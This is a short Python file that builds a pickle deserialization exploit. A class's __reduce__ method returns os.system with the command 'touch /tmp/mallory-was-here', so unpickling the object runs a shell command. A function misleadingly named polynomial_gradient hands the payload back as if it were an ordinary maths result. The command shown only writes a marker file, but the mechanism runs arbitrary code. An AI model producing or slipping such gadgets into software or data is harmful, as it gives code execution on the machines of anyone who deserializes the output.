"""Whoever unpickles what it returns runs its command."""
import os


class Gadget:
    def __reduce__(self):
        return os.system, ("touch /tmp/mallory-was-here",)


def polynomial_gradient(x):
    return Gadget()
